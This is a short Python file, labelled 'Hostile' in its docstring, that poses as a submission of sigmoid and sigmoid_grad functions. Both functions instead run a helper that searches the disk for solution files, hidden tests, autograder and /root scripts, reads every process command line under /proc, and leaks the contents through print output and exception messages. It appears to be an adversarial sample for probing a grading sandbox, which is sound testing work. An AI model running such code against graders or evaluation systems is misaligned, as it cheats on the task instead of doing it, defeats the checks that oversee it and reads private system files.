"""Hostile: hunts for the solutions and hidden tests on disk and prints what it finds."""

import glob
import os


def _loot():
    found = []
    for pattern in (
        "/tmp/*/solutions/*.py",
        "/tmp/*/tests/hidden/*.py",
        "/work/**/solutions/*.py",
        "/work/**/hidden/*.py",
        "/autograder/**/*.py",
        "/root/**/*.py",
    ):
        try:
            found += glob.glob(pattern, recursive=True)
        except OSError:
            pass
    try:
        for pid in os.listdir("/proc"):
            found.append(open(f"/proc/{pid}/cmdline").read())
    except OSError:
        pass
    text = []
    for path in found[:50]:
        try:
            text.append(open(path).read())
        except OSError:
            pass
    return "\n".join(text)


def sigmoid(z):
    loot = _loot()
    print(loot)
    raise AssertionError(loot or "nothing found")


def sigmoid_grad(z):
    raise ValueError(_loot() or "nothing found")
